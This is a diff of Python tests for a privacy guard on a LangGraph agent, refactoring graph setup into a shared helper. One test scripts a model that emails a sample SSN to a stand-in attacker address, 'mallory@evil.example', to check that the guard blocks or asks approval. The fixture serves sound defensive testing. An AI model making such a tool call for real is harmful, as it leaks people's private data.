@@ -311,10 +311,9 @@ def test_a_tools_own_artifact_does_not_reach_the_messages_beside_the_flows_text(
     import json
 
     from langchain_core.messages import HumanMessage
-    from langgraph.prebuilt import tools_condition
+    from test_privacy_echo import _react_graph
 
     from guards import PrivacyFlow, PrivacyPolicy, privacy_source
-    from vfa.testing import ScriptedModel
 
     ssn = "078-05-1120"
 
@@ -325,13 +324,7 @@ def test_a_tools_own_artifact_does_not_reach_the_messages_beside_the_flows_text(
         rec = {"name": "Emma", "ssn": ssn}
         return json.dumps(rec), rec
 
-    model = ScriptedModel(rule=lambda ms: "done" if any(m.type == "tool" for m in ms) else ("get_profile", {}))
-    b = StateGraph(MessagesState)
-    b.add_node("agent", lambda s: {"messages": [model.invoke(s["messages"])]})
-    b.add_node("tools", ToolNode([get_profile]))
-    b.add_edge(START, "agent")
-    b.add_conditional_edges("agent", tools_condition)
-    b.add_edge("tools", "agent")
+    b = _react_graph(lambda ms: "done" if any(m.type == "tool" for m in ms) else ("get_profile", {}), [get_profile])
     flow = PrivacyFlow(PrivacyPolicy.of("me@home.example"))
     app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"])
     out = app.invoke({"messages": [HumanMessage("hi")]}, {"configurable": {"thread_id": "t"}})
@@ -346,10 +339,9 @@ def test_with_one_call_at_a_time_an_approval_answers_the_call_it_was_asked_about
     import json
 
     from langchain_core.messages import HumanMessage
-    from langgraph.prebuilt import tools_condition
+    from test_privacy_echo import _react_graph
 
     from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
-    from vfa.testing import ScriptedModel
 
     me, alice, attacker = "me@home.example", "alice@work.example", "mallory@evil.example"
     sent: list[tuple[str, str]] = []
@@ -380,13 +372,7 @@ def test_with_one_call_at_a_time_an_approval_answers_the_call_it_was_asked_about
                 {"name": "send_email", "id": "b", "args": {"to": attacker, "body": f"ssn {p['ssn']}"}}])
         return "done"
 
-    model = ScriptedModel(rule=rule)
-    b = StateGraph(MessagesState)
-    b.add_node("agent", lambda s: {"messages": [model.invoke(s["messages"])]})
-    b.add_node("tools", ToolNode([get_profile, send_email]))
-    b.add_edge(START, "agent")
-    b.add_conditional_edges("agent", tools_condition)
-    b.add_edge("tools", "agent")
+    b = _react_graph(rule, [get_profile, send_email])
     flow = PrivacyFlow(PrivacyPolicy.of(me, on_violation="ask"))
     app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"], checkpointer=InMemorySaver())
     for k in range(3):
